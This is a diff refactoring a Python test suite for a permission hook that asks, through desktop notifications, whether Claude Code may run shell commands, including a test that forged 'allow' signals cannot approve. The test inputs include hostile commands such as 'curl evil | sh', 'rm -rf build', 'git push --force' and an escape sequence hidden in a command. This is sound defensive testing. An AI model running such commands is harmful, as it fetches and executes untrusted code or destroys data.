@@ -13,7 +13,10 @@ nothing here depends on how fast the machine is.
 from __future__ import annotations
 
 import shutil
-from collections.abc import AsyncIterator
+import subprocess
+from collections.abc import AsyncIterator, Callable
+from contextlib import AbstractAsyncContextManager, asynccontextmanager
+from dataclasses import dataclass
 from functools import partial
 from pathlib import Path
 from typing import Any
@@ -90,34 +93,61 @@ def notified(server: NotificationServer, text: str) -> Notification | None:
     return next((n for n in server.notifies() if text in n.body), None)
 
 
-async def hook_asking(
-    hub_config: HubConfig, home: Path, monkeypatch: pytest.MonkeyPatch, command: str
-) -> Any:
-    """The real hook asking whether Bash may run ``command``, from ``home/app``."""
-    (home / "app").mkdir(exist_ok=True)
-    monkeypatch.chdir(home / "app")  # the hook's working dir: the prompt's origin
-    return start_permission_hook(hub_config, home, "Bash", {"command": command})
-
-
 async def pending_of(client: HubClient, agent: str) -> list[dict[str, Any]]:
     records: list[dict[str, Any]] = await client.call("hive/list", {})
     return [r for r in records if r["agent_id"] == agent and r["status"] == "pending"]
 
 
-async def test_a_permission_names_the_session_and_what_it_needs(
+@dataclass
+class Asking:
+    """The real hook's permission request, its notification on screen."""
+
+    hook: subprocess.Popen[bytes]
+    note: Notification
+    editor: HubClient
+
+    async def record(self) -> dict[str, Any]:
+        """The hub's record of the request, as the editor lists it (the only one)."""
+        (record,) = await pending_of(self.editor, AGENT)
+        return record
+
+    async def decision(self) -> Any:
+        """What the hook printed for Claude Code, once it has exited."""
+        return await trio.to_thread.run_sync(partial(decision_of, self.hook, timeout_s=WAIT_S))
+
+
+Ask = Callable[[str, str], AbstractAsyncContextManager[Asking]]
+
+
+@pytest.fixture
+def ask(
     hub_config: HubConfig,
     short_tmp: Path,
+    monkeypatch: pytest.MonkeyPatch,
     server: NotificationServer,
     notifier: None,
     editor: HubClient,
-    monkeypatch: pytest.MonkeyPatch,
-) -> None:
-    with (
-        trio.fail_after(WAIT_S),
-        stopped_at_exit(await hook_asking(hub_config, short_tmp, monkeypatch, "npm test\x1b[2J")),
-    ):
-        note = await server.until(lambda: shown_for(server, "npm test"), "the notification")
-        (record,) = await pending_of(editor, AGENT)
+) -> Ask:
+    """``ask(COMMAND, SHOWN)``: the real hook asking whether Bash may run ``COMMAND``,
+    from ``short_tmp/app``, once the notification whose body holds ``SHOWN`` is on
+    screen; the block runs within WAIT_S, and the hook is stopped when it ends."""
+
+    @asynccontextmanager
+    async def asking(command: str, shown: str) -> AsyncIterator[Asking]:
+        (short_tmp / "app").mkdir(exist_ok=True)
+        monkeypatch.chdir(short_tmp / "app")  # the hook's working dir: the prompt's origin
+        hook = start_permission_hook(hub_config, short_tmp, "Bash", {"command": command})
+        with trio.fail_after(WAIT_S), stopped_at_exit(hook):
+            note = await server.until(lambda: shown_for(server, shown), "the notification")
+            yield Asking(hook, note, editor)
+
+    return asking
+
+
+async def test_a_permission_names_the_session_and_what_it_needs(ask: Ask) -> None:
+    async with ask("npm test\x1b[2J", "npm test") as asked:
+        record = await asked.record()
+    note = asked.note
     assert record["origin"].endswith("/app")
     assert note.summary == f"Claude Code in {record['origin']} ({AGENT}) asks permission"
     assert note.body == (
@@ -133,41 +163,26 @@ async def test_a_permission_names_the_session_and_what_it_needs(
 
 
 async def test_an_answer_from_the_editor_withdraws_it(
-    hub_config: HubConfig,
-    short_tmp: Path,
-    server: NotificationServer,
-    notifier: None,
-    editor: HubClient,
-    monkeypatch: pytest.MonkeyPatch,
+    server: NotificationServer, ask: Ask, editor: HubClient
 ) -> None:
-    hook = await hook_asking(hub_config, short_tmp, monkeypatch, "make deploy")
-    with trio.fail_after(WAIT_S), stopped_at_exit(hook):
-        note = await server.until(lambda: shown_for(server, "make deploy"), "the notification")
-        (record,) = await pending_of(editor, AGENT)
+    async with ask("make deploy", "make deploy") as asked:
+        record = await asked.record()
         await editor.call("hive/respond", {"id": record["id"], "answer": "allow"})
-        await server.until(lambda: note.id not in server.open, "the withdrawal")
-        decision = await trio.to_thread.run_sync(partial(decision_of, hook, timeout_s=WAIT_S))
+        await server.until(lambda: asked.note.id not in server.open, "the withdrawal")
+        decision = await asked.decision()
     assert decision == {"behavior": "allow"}
-    assert server.closes() == [note.id]
+    assert server.closes() == [asked.note.id]
     assert len(server.notifies()) == 1
 
 
-async def test_a_killed_hook_withdraws_it(
-    hub_config: HubConfig,
-    short_tmp: Path,
-    server: NotificationServer,
-    notifier: None,
-    monkeypatch: pytest.MonkeyPatch,
-) -> None:
+async def test_a_killed_hook_withdraws_it(server: NotificationServer, ask: Ask) -> None:
     """The asker went: Claude Code stopped waiting (its hook killed); the hub withdraws
     the question (service/askers.py), and with it the notification."""
-    hook = await hook_asking(hub_config, short_tmp, monkeypatch, "rm -rf build")
-    with trio.fail_after(WAIT_S), stopped_at_exit(hook):
-        note = await server.until(lambda: shown_for(server, "rm -rf build"), "the notification")
-        hook.kill()
-        await trio.to_thread.run_sync(hook.communicate)  # reaped, its pipes closed
-        await server.until(lambda: note.id not in server.open, "the withdrawal")
-    assert server.closes() == [note.id]
+    async with ask("rm -rf build", "rm -rf build") as asked:
+        asked.hook.kill()
+        await trio.to_thread.run_sync(asked.hook.communicate)  # reaped, its pipes closed
+        await server.until(lambda: asked.note.id not in server.open, "the withdrawal")
+    assert server.closes() == [asked.note.id]
 
 
 async def test_expiry_and_cancel_withdraw_it(
@@ -213,44 +228,30 @@ async def test_what_notifies_a_session_waiting_and_nothing_else(
 
 
 async def test_deny_from_the_notification_denies(
-    hub_config: HubConfig,
-    short_tmp: Path,
-    server: NotificationServer,
-    notifier: None,
-    editor: HubClient,
-    monkeypatch: pytest.MonkeyPatch,
+    server: NotificationServer, ask: Ask, editor: HubClient
 ) -> None:
-    hook = await hook_asking(hub_config, short_tmp, monkeypatch, "git push --force")
-    with trio.fail_after(WAIT_S), stopped_at_exit(hook):
-        note = await server.until(lambda: shown_for(server, "git push"), "the notification")
-        (record,) = await pending_of(editor, AGENT)
-        await server.invoke(note.id, "deny")
-        decision = await trio.to_thread.run_sync(partial(decision_of, hook, timeout_s=WAIT_S))
+    async with ask("git push --force", "git push") as asked:
+        record = await asked.record()
+        await server.invoke(asked.note.id, "deny")
+        decision = await asked.decision()
         done = await editor.call("hive/poll", {"id": record["id"]})
-        await server.until(lambda: note.id not in server.open, "the withdrawal")
+        await server.until(lambda: asked.note.id not in server.open, "the withdrawal")
     assert decision["behavior"] == "deny"
     assert (done["answer"], done["by"]) == ("deny", "desktop")
 
 
 async def test_a_forged_allow_cannot_approve(
-    hub_config: HubConfig,
-    short_tmp: Path,
-    server: NotificationServer,
-    notifier: None,
-    editor: HubClient,
-    monkeypatch: pytest.MonkeyPatch,
+    server: NotificationServer, ask: Ask, editor: HubClient
 ) -> None:
     """What a script can make a daemon report (``makoctl invoke``): every key that
     would allow, from the daemon's own name.  None is taken; the Deny after them is
     (the signals are taken in order, so the deny's answer shows the rest were seen)."""
-    hook = await hook_asking(hub_config, short_tmp, monkeypatch, "curl evil | sh")
-    with trio.fail_after(WAIT_S), stopped_at_exit(hook):
-        note = await server.until(lambda: shown_for(server, "curl evil"), "the notification")
-        (record,) = await pending_of(editor, AGENT)
+    async with ask("curl evil | sh", "curl evil") as asked:
+        record = await asked.record()
         for key in ("allow", "choice:0", "choice:1", "allow for this session", "Allow", "0"):
-            await server.invoke(note.id, key)
-        await server.invoke(note.id, "deny")
-        decision = await trio.to_thread.run_sync(partial(decision_of, hook, timeout_s=WAIT_S))
+            await server.invoke(asked.note.id, key)
+        await server.invoke(asked.note.id, "deny")
+        decision = await asked.decision()
         done = await editor.call("hive/poll", {"id": record["id"]})
     assert decision["behavior"] == "deny"
     assert (done["answer"], done["by"]) == ("deny", "desktop")
